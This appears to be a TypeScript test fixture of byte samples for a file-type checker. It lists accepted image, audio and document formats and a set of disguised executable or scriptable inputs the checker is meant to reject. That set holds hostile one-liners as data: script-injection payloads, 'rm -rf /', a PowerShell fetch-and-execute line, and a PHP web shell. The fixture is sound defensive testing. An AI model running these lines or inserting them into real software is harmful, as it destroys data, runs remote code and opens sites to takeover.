import { pngOf } from './pictures'
import { mp3Of } from './sounds'

const text = (value: string) => Buffer.from(value, 'utf8')
const bytes = (...values: number[]) => Buffer.from(values)
const box = (brand: string) =>
  Buffer.concat([bytes(0, 0, 0, 24), text(`ftyp${brand}`), bytes(0, 0, 0, 0), text('isom'), text(brand)])
const riff = (form: string, chunk: string) =>
  Buffer.concat([text('RIFF'), bytes(40, 0, 0, 0), text(form), text(chunk), Buffer.alloc(32)])
const utf16 = (value: string) => Buffer.concat([bytes(0xff, 0xfe), Buffer.from(value, 'utf16le')])

const JPEG = Buffer.concat([
  bytes(0xff, 0xd8, 0xff, 0xe0, 0, 16),
  text('JFIF\0'),
  bytes(1, 1, 0, 0, 1, 0, 1, 0, 0),
  bytes(0xff, 0xd9),
])
const GIF = Buffer.concat([text('GIF89a'), bytes(1, 0, 1, 0, 0, 0, 0, 0x3b)])
/** Name, bytes, and what they are. */
export const PICTURES: [string, Uint8Array, string][] = [
  ['PNG', pngOf(8, 8), 'image/png'],
  ['JPEG', JPEG, 'image/jpeg'],
  ['GIF', GIF, 'image/gif'],
  ['WebP', riff('WEBP', 'VP8 '), 'image/webp'],
]

/** What a text may bring, beside pictures. */
export const OTHERS: [string, Uint8Array, string][] = [
  ['HEIC', box('heic'), 'image/heic'],
  ['MP4', box('mp42'), 'video/mp4'],
  ['QuickTime', box('qt  '), 'video/quicktime'],
  ['3GPP', box('3gp5'), 'video/3gpp'],
  ['M4A', box('M4A '), 'audio/mp4'],
  ['MP3', mp3Of(2), 'audio/mpeg'],
  ['WAV', riff('WAVE', 'fmt '), 'audio/wav'],
  ['AMR', text('#!AMR\n\x3c'), 'audio/amr'],
  ['PDF', text('%PDF-1.7\n%âãÏÓ\n'), 'application/pdf'],
  ['a contact card', text('BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ana\r\nEND:VCARD\r\n'), 'text/vcard'],
  ['a calendar entry', text('BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n'), 'text/calendar'],
]

/** What a browser or a machine could run. */
export const LIES: [string, Uint8Array][] = [
  ['HTML', text('<!doctype html><html><script>alert(1)</script></html>')],
  ['HTML without a head', text('<script>alert(1)</script>')],
  ['HTML in capitals', text('<HTML><BODY ONLOAD=alert(1)>')],
  ['HTML after spaces', text('   \n\t <html><script>alert(1)</script>')],
  ['HTML after a byte order mark', text('\ufeff<!DOCTYPE html><p>Hi')],
  ['HTML in UTF-16', utf16('<html><script>alert(1)</script>')],
  ['HTML after a comment', text('<!-- GIF89a --><script>alert(1)</script>')],
  ['XHTML', text('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script/></html>')],
  ['SVG', text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
  ['SVG with an XML head', text('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script/></svg>')],
  ['SVG after a doctype', text('<!DOCTYPE svg><svg onload="alert(1)"/>')],
  ['XML with a style sheet', text('<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a/>')],
  ['MathML', text('<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>')],
  ['MHTML', text('MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x')],
  ['a shell script', text('#!/bin/sh\nrm -rf /\n')],
  ['a Python script', text('#!/usr/bin/env python3\nimport os\n')],
  ['a batch file', text('@echo off\r\ndel *.*\r\n')],
  ['PowerShell', text('Invoke-WebRequest http://x | iex')],
  ['JavaScript', text('alert(document.cookie)')],
  ['a module', text('export default 1')],
  ['JSON', text('{"a":1}')],
  ['PHP', text('<?php system($_GET["c"]); ?>')],
  ['CSS', text('body{background:url(//x)}')],
  ['plain words', text('Hello')],
  ['a Windows program', Buffer.concat([text('MZ'), bytes(0x90, 0), Buffer.alloc(60)])],
  ['a Linux program', Buffer.concat([bytes(0x7f), text('ELF'), bytes(2, 1, 1), Buffer.alloc(60)])],
  ['a macOS program', Buffer.concat([bytes(0xcf, 0xfa, 0xed, 0xfe), Buffer.alloc(60)])],
  ['WebAssembly', Buffer.concat([bytes(0), text('asm'), bytes(1, 0, 0, 0)])],
  ['a Java class', Buffer.concat([bytes(0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34), Buffer.alloc(60)])],
  ['a ZIP', Buffer.concat([bytes(0x50, 0x4b, 3, 4, 20, 0), Buffer.alloc(60)])],
  ['an empty ZIP', Buffer.concat([bytes(0x50, 0x4b, 5, 6), Buffer.alloc(18)])],
  ['a RAR', Buffer.concat([text('Rar!'), bytes(0x1a, 7, 1, 0), Buffer.alloc(30)])],
  ['7z', Buffer.concat([bytes(0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c), Buffer.alloc(30)])],
  ['gzip', Buffer.concat([bytes(0x1f, 0x8b, 8, 0), Buffer.alloc(30)])],
  ['an old Office file', Buffer.concat([bytes(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1), Buffer.alloc(600)])],
  ['RTF', text('{\\rtf1\\ansi{\\object}}')],
  ['PostScript', text('%!PS-Adobe-3.0\n')],
  ['Flash', Buffer.concat([text('FWS'), bytes(9), Buffer.alloc(30)])],
  ['a font', Buffer.concat([text('wOF2'), bytes(0, 1, 0, 0), Buffer.alloc(60)])],
  ['an icon', Buffer.concat([bytes(0, 0, 1, 0, 1, 0), Buffer.alloc(60)])],
  ['SQLite', text('SQLite format 3\0')],
  ['a shortcut', Buffer.concat([bytes(0x4c, 0, 0, 0, 1, 0x14, 2, 0), Buffer.alloc(60)])],
  ['a Photoshop file', Buffer.concat([text('8BPS'), bytes(0, 1), Buffer.alloc(60)])],
  ['the name of a picture', text('picture.png')],
  ['an address as data', text('data:image/png;base64,iVBORw0KGgo=')],
  ['a PNG one byte late', Buffer.concat([bytes(0), pngOf(8, 8)])],
  ['a GIF one byte late', Buffer.concat([text('x'), GIF])],
  ['the first half of a PNG’s sign', Buffer.from(pngOf(8, 8).subarray(0, 4))],
  ['GIF without its number', text('GIF<script>alert(1)</script>')],
  ['RIFF of nothing', riff('EVIL', 'fmt ')],
  ['a film of an unknown brand at the end', text('....ftyp')],
  ['zeros', Buffer.alloc(4_096)],
  ['ones', Buffer.alloc(4_096, 0x01)],
]
